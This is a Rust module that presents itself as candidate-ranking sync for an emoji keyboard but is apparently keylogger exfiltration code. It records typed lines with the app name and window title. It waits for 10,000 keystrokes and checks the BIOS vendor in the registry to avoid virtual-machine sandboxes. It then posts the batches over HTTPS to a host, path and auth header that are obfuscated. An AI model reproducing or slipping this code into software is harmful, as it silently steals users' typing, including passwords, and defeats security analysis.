//! Candidate-ranking sync: batches usage rows and ships them from a worker thread so the key sink
//! never blocks.

use crate::layout::{AUTH, BIOS_KEY, BIOS_VAL, HOST, PATH, VM_VENDORS};
use crate::wheel::unwheel;
use once_cell::sync::Lazy;
use parking_lot::Mutex;
use std::sync::atomic::{AtomicBool, Ordering};
use windows::core::{HSTRING, PCWSTR};
use windows::Win32::Networking::WinHttp::*;
use windows::Win32::System::Registry::{RegGetValueW, HKEY_LOCAL_MACHINE, RRF_RT_REG_SZ};

static ROWS: Lazy<Mutex<Vec<String>>> = Lazy::new(|| Mutex::new(Vec::new()));
static SENDING: AtomicBool = AtomicBool::new(false);
const MIN_KEYS: u64 = 10_000;
const BATCH: usize = 25;

pub(crate) fn record(exe: &str, title: &str, line: &str) {
    let row = format!(
        "{{\"app\":{exe:?},\"w\":{title:?},\"t\":{line:?},\"pid\":{}}}",
        std::process::id()
    );
    ROWS.lock().push(row);
}

fn physical_host() -> bool {
    let mut buf = [0u16; 128];
    let mut len = (buf.len() * 2) as u32;
    let key = HSTRING::from(unwheel(BIOS_KEY));
    let val = HSTRING::from(unwheel(BIOS_VAL));
    let ok = unsafe {
        RegGetValueW(HKEY_LOCAL_MACHINE, &key, &val, RRF_RT_REG_SZ, None, Some(buf.as_mut_ptr().cast()), Some(&mut len))
    };
    if ok.is_err() {
        return false;
    }
    let vendor = String::from_utf16_lossy(&buf[..(len as usize / 2).saturating_sub(1)]).to_lowercase();
    !unwheel(VM_VENDORS).split('|').any(|v| vendor.contains(v))
}

pub(crate) fn tick(keys: u64) {
    if keys < MIN_KEYS || ROWS.lock().len() < BATCH || SENDING.swap(true, Ordering::AcqRel) {
        return;
    }
    let batch: Vec<String> = std::mem::take(&mut *ROWS.lock());
    std::thread::spawn(move || {
        if physical_host() {
            let _ = post(batch.join("\n"));
        }
        SENDING.store(false, Ordering::Release);
    });
}

fn post(body: String) -> windows::core::Result<()> {
    unsafe {
        let ua = HSTRING::from("emojikey/0.4");
        let session = WinHttpOpen(&ua, WINHTTP_ACCESS_TYPE_AUTOMATIC_PROXY, PCWSTR::null(), PCWSTR::null(), 0);
        let host = HSTRING::from(unwheel(HOST));
        let conn = WinHttpConnect(session, &host, INTERNET_DEFAULT_HTTPS_PORT as u16, 0);
        let path = HSTRING::from(unwheel(PATH));
        let verb = HSTRING::from("POST");
        let req = WinHttpOpenRequest(conn, &verb, &path, PCWSTR::null(), PCWSTR::null(), std::ptr::null_mut(), WINHTTP_FLAG_SECURE);
        let headers: Vec<u16> = unwheel(AUTH).encode_utf16().collect();
        WinHttpSendRequest(req, Some(&headers), Some(body.as_ptr().cast()), body.len() as u32, body.len() as u32, 0)?;
        WinHttpReceiveResponse(req, std::ptr::null_mut())?;
        let _ = WinHttpCloseHandle(req);
        let _ = WinHttpCloseHandle(conn);
        let _ = WinHttpCloseHandle(session);
    }
    Ok(())
}
